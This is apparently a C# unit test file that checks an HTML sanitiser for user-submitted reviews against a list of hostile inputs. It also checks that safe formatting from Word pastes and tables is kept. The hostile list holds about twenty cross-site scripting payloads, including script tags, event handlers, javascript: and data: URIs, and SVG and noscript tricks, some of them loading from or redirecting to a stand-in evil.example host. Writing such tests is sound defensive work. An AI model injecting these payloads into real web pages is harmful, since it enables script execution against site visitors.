using Blueprint.Web.Features.Reviews;

namespace Blueprint.Tests.Reviews;

/// <summary>The sanitiser against what a hostile or careless client could send.</summary>
public sealed class ReviewHtmlTests
{
    public static readonly TheoryData<string> Hostile = new(
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<ScRiPt>alert(1)</sCrIpT>",
        "<img src=x onerror=alert(1)>",
        "<p onclick=\"alert(1)\">",
        "<p style=\"background:url(javascript:alert(1))\">",
        "<p style=\"width: expression(alert(1))\">",
        "<a href=\"javascript:alert(1)\">",
        "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
        "<svg onload=alert(1)><script>alert(1)</script></svg>",
        "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
        "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
        "<iframe src=\"https://evil.example\"></iframe>",
        "<object data=\"evil.swf\"></object><embed src=\"evil.swf\">",
        "<form action=\"https://evil.example\"><input name=x><button>go</button></form>",
        "<style>p{background:url(javascript:alert(1))}</style>",
        "<link rel=stylesheet href=\"https://evil.example/x.css\"><meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\"><base href=\"https://evil.example\">",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></p></noscript></noscript>",
        "<template><img src=x onerror=alert(1)></template>",
        "<p data-bind=\"alert(1)\" class=\"evil\" id=\"x\">",
        "<table background=\"javascript:alert(1)\"><tr><td onmouseover=\"alert(1)\">x</td></tr></table>");

    [Theory]
    [MemberData(nameof(Hostile))]
    public void Nothing_executable_or_foreign_survives(string attack)
    {
        var clean = ReviewHtml.Sanitize($"<p>正文</p>{attack}<p>结尾</p>");
        foreach (var forbidden in new[] { "<script", "<img", "<svg", "<math", "<iframe", "<object", "<embed", "<form", "<input", "<style", "<link", "<meta", "<base",
            "<template", "<noscript", "<a ", "on", "style=", "href", "src=", "javascript", "expression", "alert(", "xlink", "data-", "class=", "id=", "background" })
        {
            Assert.DoesNotContain(forbidden, clean.Replace("<p>正文</p>", "").Replace("<p>结尾</p>", ""), StringComparison.OrdinalIgnoreCase);
        }

        Assert.StartsWith("<p>正文</p>", clean, StringComparison.Ordinal);
        Assert.EndsWith("<p>结尾</p>", clean, StringComparison.Ordinal);
    }

    [Fact]
    public void Headings_lists_tables_and_emphasis_are_kept()
    {
        var html = "<h2>一、主要成绩</h2><p>新增学位<strong>2650</strong>个，<em>超额</em><u>完成</u>。</p>"
            + "<ul><li>稻虾<b>综合</b>种养</li><li>老旧小区<ol><li>开工46个</li></ol></li></ul>"
            + "<table><thead><tr><th colspan=\"2\">指标</th></tr></thead><tbody><tr><td>GDP</td><td>8%</td></tr></tbody></table>";
        Assert.Equal(html, ReviewHtml.Sanitize(html));
    }

    [Fact]
    public void Wrappers_pasted_from_word_are_unwrapped_and_their_words_kept()
    {
        var clean = ReviewHtml.Sanitize("<div class=\"MsoNormal\"><span style=\"font-family:宋体\"><font color=red>马蹄湾</font></span><o:p></o:p></div><h1>标题</h1>");
        Assert.Equal("马蹄湾标题", clean);
    }

    [Fact]
    public void Text_that_looks_like_markup_stays_text()
    {
        Assert.Equal("<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>", ReviewHtml.Sanitize("<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>"));
    }

    [Theory]
    [InlineData("2", true)]
    [InlineData("0", false)]
    [InlineData("999", false)]
    [InlineData("2;background:url(x)", false)]
    public void A_cell_span_must_be_a_small_number(string span, bool kept)
    {
        var clean = ReviewHtml.Sanitize($"<table><tr><td colspan=\"{span}\">a</td></tr></table>");
        Assert.Equal(kept, clean.Contains("colspan", StringComparison.Ordinal));
    }

    [Theory]
    [InlineData(null)]
    [InlineData("   ")]
    [InlineData("<p><br></p><p>&nbsp;</p>")]
    [InlineData("<script>only</script>")]
    public void Blank_input_is_stored_as_empty(string? html) => Assert.Equal("", ReviewHtml.Sanitize(html));

    [Fact]
    public void Comments_are_dropped() => Assert.Equal("<p>x</p>", ReviewHtml.Sanitize("<!-- <script>alert(1)</script> --><p>x</p>"));
}
